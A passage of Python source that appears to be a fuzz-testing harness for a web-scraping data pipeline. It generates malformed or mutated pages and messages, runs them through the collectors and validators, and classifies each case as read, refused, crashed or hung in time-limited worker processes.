def _garbage_page(rng: random.Random, base: _BasePage, recipe: list[str]) -> tuple[bytes, str]:
    kind = rng.choice(("bytes", "text", "json", "markup", "empty"))
    recipe.append(f"garbage page ({kind})")
    if kind == "bytes":
        body = rng.randbytes(rng.randint(1, 5_000))
    elif kind == "text":
        body = hostile_text(rng).encode("utf-8", "surrogatepass")
    elif kind == "json":
        body = dumps({"data": [hostile_value(rng)], "jsonArray": hostile_value(rng)}, rng).encode("utf-8", "replace")
    elif kind == "markup":
        body = "".join(rng.choice((*MARKUP_PIECES, hostile_text(rng))) for _ in range(rng.randint(1, 60))).encode(
            "utf-8", "surrogatepass")
    else:
        body = b""
    return body, base.content_type


def mutate_bytes(rng: random.Random, body: bytes, recipe: list[str]) -> bytes:
    """A byte-level mutation: a cut, NUL bytes, flipped or inserted bytes, a repeated slice, a byte-order mark."""
    kind = rng.choice(("cut", "nul", "flip", "insert", "repeat", "bom"))
    recipe.append(f"bytes: {kind}")
    position = rng.randint(0, len(body))
    if kind == "cut":
        return body[:position]
    if kind == "nul":
        return body[:position] + b"\x00" * rng.randint(1, 4) + body[position:]
    if kind == "flip" and body:
        flipped = bytearray(body)
        for _ in range(rng.randint(1, 8)):
            flipped[rng.randrange(len(flipped))] = rng.randrange(256)
        return bytes(flipped)
    if kind == "insert":
        return body[:position] + rng.randbytes(rng.randint(1, 16)) + body[position:]
    if kind == "repeat":
        end = min(len(body), position + rng.randint(1, 200))
        return body[:end] + body[position:end] * rng.choice((2, 100, 1_000)) + body[end:]
    return rng.choice((b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\x00\x00\xfe\xff")) + body


# --- running a case ------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Limits:
    """The settings the collectors and the hot path apply to input size (MAX_RESPONSE_BYTES, MAX_RECORD_BYTES)."""

    max_response_bytes: int
    max_record_bytes: int


@dataclass(frozen=True)
class Message:
    """A raw-topic message and where it must end: `stored_as` (source, external id) with `stored_text` (title,
    content, issuing organisation as cleaned), or, when `stored_as` is None, the dead-letter queue."""

    key: bytes
    value: bytes
    stored_as: tuple[str, str] | None = None
    stored_text: tuple[str, str, str] | None = None


Status = Literal["read", "refused", "source error", "crash", "hang"]


@dataclass
class CaseResult:
    """What a case came to in-process. `status`: read (records or messages to publish, maybe dead letters too),
    refused (a page refused as a whole with `code`), source error (a page the collectors take for the source's own
    error, e.g. the data.go.kr key or rate-limit envelope: the source run fails with `code` and the page is fetched
    again next run, so it is not dead-lettered), crash, hang. `letters` are the collectors' dead letters."""

    index: int
    layer: str
    recipe: str
    status: Status = "read"
    code: str | None = None
    detail: str = ""
    messages: list[Message] = field(default_factory=list)
    letters: list[DeadLetter] = field(default_factory=list)
    seconds: float = 0.0


class _NoRateLimit:
    """The collectors' shared rate limiter needs Redis; a case has no one to be polite to."""

    async def acquire(self, source: str, requests_per_second: float) -> None:
        return None


async def _fetch_api_records(page: PageCase, limits: Limits) -> list[dict[str, Any]]:
    """The page through the collectors' HTTP client (served from memory) and `parse_page`, as `run._read_listing`."""
    source = page.source

    def serve(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=page.body, headers={"Content-Type": page.content_type})

    async with httpx.AsyncClient(transport=httpx.MockTransport(serve)) as http:
        breaker = new_breaker(source.name, failure_threshold=1_000, recovery_seconds=1)
        client = SourceHttpClient(source, http, _NoRateLimit(), breaker,  # type: ignore[arg-type]
                                  max_response_bytes=limits.max_response_bytes)
        text = await client.fetch_text(page.url, {}, make_page_check(source))
    return parse_page(text, source).records


def _board_records(page: PageCase) -> list[dict[str, Any]]:
    """The page through the board crawler's own page readers (`_BoardWalk.read_list_page`, `read_post`). A list
    page gives no record (only links to follow); a detail page its post, as `run._read_board` turns a post into a
    record."""
    source = page.source
    walk = _BoardWalk.reading(source)
    response = HtmlResponse(url=page.url, body=page.body, headers={"Content-Type": page.content_type},
                            request=Request(page.url))
    if page.board_page == "list":
        try:
            walk.read_list_page(response, page.url)
        except Exception as error:  # the crawl would count the page failed; any page must be readable
            raise RuntimeError(f"crawler could not read the list page: {error!r}") from error
        return []
    post = walk.read_post(response, page.url)
    if post is None:
        raise RuntimeError(f"crawler could not read the detail page: {walk.errors}")
    return [{**post.fields, "id": post.external_id, "url": post.detail_url}]


def expected_message(key: bytes, value: bytes, limits: Limits) -> Message:
    """Where the hot path must put this message: validated and cleaned here as it will be there."""
    checked = validate_message(RawMessage(value, key), max_record_bytes=limits.max_record_bytes)
    if isinstance(checked, DeadLetter):
        return Message(key, value)
    clean = normalize_record(checked)
    return Message(key, value, (clean.source_system, clean.external_id),
                   (clean.title, clean.content, clean.issuing_organization))


def run_case(case: Case, limits: Limits, runner: asyncio.Runner) -> CaseResult:
    """Case `case` through the collectors' steps (a page) and the hot path's validation (its messages)."""
    started = time.perf_counter()
    result = CaseResult(index=case.index, layer=case.layer, recipe=case.recipe)
    try:
        if case.page is not None:
            _read_page(case.page, limits, runner, result)
        elif case.message is not None:
            result.messages.append(Message(*case.message))
        result.messages = [expected_message(message.key, message.value, limits) for message in result.messages]
    except Exception as error:
        result.status, result.detail = "crash", "".join(traceback.format_exception(error)[-6:])
        if case.message is not None and not result.messages:  # still published: the hot path must survive it
            result.messages = [Message(*case.message)]
    result.seconds = time.perf_counter() - started
    return result


def _read_page(page: PageCase, limits: Limits, runner: asyncio.Runner, result: CaseResult) -> None:
    source = page.source
    try:
        if page.board_page is not None:
            raw_records = _board_records(page)
        else:
            raw_records = runner.run(_fetch_api_records(page, limits))
    except RefusedResponseError as error:  # dead-lettered with the start of the page, as `collect_source` does
        result.status, result.code, result.detail = "refused", error.code.value, error.message
        result.letters.append(DeadLetter.from_error(
            "collect", error, source_system=source.name,
            payload_text=redact(error.body_excerpt, secret_spellings(source.secret_values()))))
        return
    except PipelineError as error:
        result.status, result.code, result.detail = "source error", error.code.value, error.message
        return
    # As the page taker does (the stack's default IDENTIFIER_HASH_KEY, as `expected_message` uses).
    sanitised = [without_personal_identifiers(sanitise_record(raw, source.secret_values()), source,
                                              DEVELOPMENT_KEY.encode("utf-8")) for raw in raw_records]
    valid, result.letters = _validate(sanitised, source, COLLECTED_AT, seen_ids=set(),
                                      max_record_bytes=limits.max_record_bytes)
    # Published as the collectors publish: the record as JSON, keyed source:external_id.
    result.messages = [Message(record.collection_metadata.record_key.encode("utf-8"),
                               record.model_dump_json().encode("utf-8")) for record in valid]


# --- worker processes ------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class RunConfig:
    """What a worker needs to make and run any case of the run."""

    seed: int
    token: str
    corpus_dir: Path | None
    limits: Limits


WORKER_START_SECONDS = 120  # a worker imports the collectors, Scrapy and pydantic before it is ready


def _worker(connection: Connection, config: RunConfig) -> None:
    # bs4 warns about pages that look like XML or a URL; hostile pages do, thousands of times.
    warnings.simplefilter("ignore")
    factory = CaseFactory(config.seed, config.token, config.corpus_dir)
    with asyncio.Runner() as runner:
        connection.send("ready")  # a case's clock starts only now: the imports are not the case's time
        while (index := connection.recv()) is not None:
            connection.send(run_case(factory.case(index), config.limits, runner))


@dataclass
class _Worker:
    process: multiprocessing.process.BaseProcess
    connection: Connection
    index: int | None = None
    started: float = 0.0


class WatchedWorkers:
    """Runs cases in `workers` processes, one case at a time each, each case under a time limit.

    A case over `timeout_seconds` (still running, or finished later than that by its own clock) is run once more
    in a fresh worker (the first run may have lost its CPU to the engines starting beside it); over the limit
    again, it is a hang. A worker still running over the limit is killed and replaced: a thread could not be
    stopped, and a regular expression stuck in C code would not even let a watchdog thread run. A worker that dies
    under a case is that case's crash."""

    def __init__(self, config: RunConfig, factory: CaseFactory, *, workers: int, timeout_seconds: float) -> None:
        self._config = config
        self._factory = factory  # makes a hung or crashed case again, for its recipe
        self._count = workers
        self._timeout = timeout_seconds
        self._context = multiprocessing.get_context("spawn")  # fresh interpreters: no event loop or thread forked

    def _start(self) -> _Worker:
        ours, theirs = self._context.Pipe()
        process = self._context.Process(target=_worker, args=(theirs, self._config), daemon=True)
        process.start()
        theirs.close()
        if not ours.poll(WORKER_START_SECONDS) or ours.recv() != "ready":
            raise RuntimeError(f"a fuzz worker did not start in {WORKER_START_SECONDS} s")
        return _Worker(process, ours)

    def _replace(self, worker: _Worker) -> None:
        worker.process.kill()
        worker.process.join()
        fresh = self._start()
        worker.process, worker.connection, worker.index = fresh.process, fresh.connection, None

    def _lost(self, worker: _Worker, status: Status, detail: str) -> CaseResult:
        """The result of a case that hung or crashed (made from its recipe: the worker gave none); the worker is
        replaced."""
        case = self._factory.case(worker.index or 0)
        result = CaseResult(index=case.index, layer=case.layer, recipe=case.recipe, status=status, detail=detail,
                            seconds=time.monotonic() - worker.started)
        self._replace(worker)
        return result

    def run(self, indices: Iterable[int]) -> Iterator[CaseResult]:
        pending = iter(indices)
        again: list[int] = []  # cases over their limit once, to run once more
        over_once: set[int] = set()
        workers = [self._start() for _ in range(self._count)]

        def give_work(worker: _Worker) -> None:
            worker.index = again.pop() if again else next(pending, None)
            if worker.index is not None:
                worker.started = time.monotonic()
                worker.connection.send(worker.index)

        def over_limit(worker: _Worker, *, still_running: bool) -> CaseResult | None:
            """Run the case once more, or, the second time, its hang; a worker still running is replaced."""
            index = worker.index
            assert index is not None
            if index in over_once:
                return self._lost(worker, "hang", f"over the {self._timeout} s limit, twice")
            over_once.add(index)
            again.append(index)
            if still_running:
                self._replace(worker)
            return None

        for worker in workers:
            give_work(worker)
        try:
            while busy := [worker for worker in workers if worker.index is not None]:
                oldest = min(worker.started for worker in busy)
                wait([worker.connection for worker in busy] + [worker.process.sentinel for worker in busy],
                     timeout=max(0.0, oldest + self._timeout - time.monotonic()))
                for worker in busy:
                    result: CaseResult | None
                    if worker.connection.poll():
                        try:
                            result = worker.connection.recv()
                        except (EOFError, OSError):  # the worker died: its end of the pipe closed or reset
                            result = self._lost(worker, "crash", f"worker died (exit code {worker.process.exitcode})")
                        else:  # finished; late (by its own clock) counts as over the limit too
                            if result.seconds > self._timeout:
                                result = over_limit(worker, still_running=False)
                    elif not worker.process.is_alive():
                        result = self._lost(worker, "crash", f"worker died (exit code {worker.process.exitcode})")
                    elif time.monotonic() - worker.started > self._timeout:
                        result = over_limit(worker, still_running=True)
                    else:
                        continue  # still within its limit
                    if result is not None:
                        yield result
                    give_work(worker)
        finally:
            for worker in workers:
                worker.process.kill()
                worker.process.join()
